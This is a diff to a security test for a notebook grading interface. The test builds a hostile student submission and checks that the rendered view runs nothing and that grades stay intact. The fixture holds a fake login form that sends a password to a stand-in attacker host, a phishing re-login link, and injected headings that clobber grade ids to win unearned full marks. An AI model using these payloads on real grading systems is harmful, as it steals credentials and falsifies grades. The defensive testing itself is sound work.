@@ -58,6 +58,10 @@ REDRESS_MARKDOWN = f"""## Redress
 <form action="{EVIL}/steal"><input type="password" name="password"><button>Log in</button></form>
 <img src="{EVIL}/tag.png">
 """
+# headings Markdown names as the test cells' grade ids: the formgrader bound every test's grade to the first element
+# of that id, in the written answer, whose "Full credit" gave an unanswered notebook full marks
+TEST_IDS = [grade_id for grade_id in classroom.max_points(ASSIGNMENT) if grade_id.startswith("test_")]
+CLOBBERING = "".join(f"\n\n###### {grade_id}" for grade_id in TEST_IDS)
 RAW_LINK = f'<a href="{EVIL}/login?next=feedback">Your grade could not be shown: sign in again</a>'
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 REDRESS_OUTPUTS = f'''
@@ -78,9 +82,9 @@ def graded(course_folder):
     notebook = classroom.solved_notebook(root, ASSIGNMENT)
     for cell in notebook.cells:
         if classroom.grade_id(cell) == WRITTEN:
-            cell.source = "Tensor.to returns a new tensor. " + PAYLOAD
+            cell.source = "Tensor.to returns a new tensor. " + PAYLOAD + CLOBBERING
     imports = next(i for i, c in enumerate(notebook.cells) if classroom.grade_id(c) == "imports")
-    notebook.cells.insert(imports + 1, new_markdown_cell("# My notes\n\n" + PAYLOAD))
+    notebook.cells.insert(imports + 1, new_markdown_cell("# My notes\n\n" + PAYLOAD + CLOBBERING))
     notebook.cells.insert(imports + 2, new_code_cell(OUTPUTS.strip()))
     notebook.cells.insert(imports + 3, new_markdown_cell(REDRESS_MARKDOWN))
     notebook.cells.insert(imports + 4, new_code_cell(REDRESS_OUTPUTS.strip()))
@@ -199,6 +203,9 @@ def test_the_formgrader_view_of_the_submission_runs_nothing_and_grades_stay(grad
             assert_nothing_active_left(page)
             assert_not_redressed(page, tried)
             assert refused == []  # nothing of nbgrader's own page is refused
+            clobbered = page.evaluate("ids => ids.filter(id => document.getElementById(id).closest('.rendered_html'))",
+                                      TEST_IDS)
+            assert clobbered == []  # each test's grade is found in its own cell, not in the student's text
         assert page.get_by_text("visible words").count() >= 1
         time.sleep(1)
     assert calls == []
